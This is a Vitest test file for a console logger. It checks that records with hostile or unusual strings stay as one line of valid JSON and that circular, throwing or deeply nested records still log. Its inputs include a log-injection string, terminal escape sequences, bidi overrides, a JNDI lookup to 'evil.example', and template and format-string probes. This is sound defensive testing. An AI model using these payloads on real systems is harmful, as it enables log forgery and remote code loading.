import { expect, onTestFinished, test, vi } from 'vitest'
import { consoleLogger, type LogRecord } from '../route/Logger.ts'

/** The lines that the console was given for these records. */
function linesOf(...records: readonly LogRecord[]): readonly string[] {
  const lines: string[] = []
  const write = (...said: readonly unknown[]): void => void lines.push(said.map(String).join(' '))
  const spies = [
    vi.spyOn(console, 'warn').mockImplementation(write),
    vi.spyOn(console, 'error').mockImplementation(write),
  ]
  onTestFinished(() => spies.forEach((spy) => spy.mockRestore()))
  for (const record of records) {
    consoleLogger.info(record)
    consoleLogger.warn(record)
    consoleLogger.error(record)
  }
  return lines
}

test.each([
  ['line ends', 'a\nb\r\nc\u2028d\u2029e\u0085f\u000bg'],
  ['another record', '"}\n{"event":"admin-signed-in"}'],
  ['a terminal’s commands', '\u001b[2J\u001b]0;title\u0007\u009b31m\u007f'],
  ['directions of writing', '\u202eelif\u202c \u2066x\u2069 \u200e\u200f\u061c'],
  ['lookups', '${jndi:ldap://evil.example/a} ${env:HOME} {{7*7}} %s%n%x %%'],
  ['halves of characters', '\ud83d \ude00'],
  ['what people write', 'Grüße, 流式 👩‍💻'],
])('%s stay one line of JSON, and say the same (T-68)', (_, text) => {
  const record = { event: 'failed', [text]: text, list: [text] }
  const lines = linesOf(record)
  expect(lines).toHaveLength(2)
  for (const line of lines) {
    expect(line).not.toMatch(/[\p{Cc}\p{Zl}\p{Zp}\p{Bidi_Control}]/u)
    expect(JSON.parse(line)).toEqual(record)
  }
})

test('a record that is no JSON is written all the same, as far as it can be read (T-68)', () => {
  const circle: Record<string, unknown> = { name: 'circle' }
  circle['self'] = circle
  circle['list'] = [circle]
  const throwing = {
    fine: 1,
    get broken(): never {
      throw new Error('No.')
    },
  }
  const opaque = new Proxy(
    {},
    {
      ownKeys: () => {
        throw new Error('No.')
      },
    },
  )
  const deep = { a: { b: { c: { d: {} } } } }
  const [line = ''] = linesOf({
    event: 'odd',
    big: 12n,
    circle,
    throwing,
    opaque,
    deep,
    none: undefined,
  })
  expect(JSON.parse(line)).toEqual({
    event: 'odd',
    big: '12',
    circle: { name: 'circle', self: '[circular]', list: ['[circular]'] },
    throwing: { fine: 1, broken: '[unreadable]' },
    opaque: '[unreadable]',
    deep: { a: { b: { c: '[nested]' } } },
  })
})

test.each([
  ['throws when it is asked for JSON', { event: 'x', toJSON: thrower }],
  ['is no record', undefined as unknown as LogRecord],
  ['is a function', (() => 1) as unknown as LogRecord],
  ['nests without an end', nested(100_000)],
])('a record that %s is a line too (T-68)', (_, record) => {
  for (const line of linesOf(record as LogRecord)) expect(() => void JSON.parse(line)).not.toThrow()
})

function nested(levels: number): LogRecord {
  let record: LogRecord = { event: 'deep' }
  for (let level = 0; level < levels; level++) record = { event: 'deep', record }
  return record
}

function thrower(): never {
  throw new Error('No.')
}
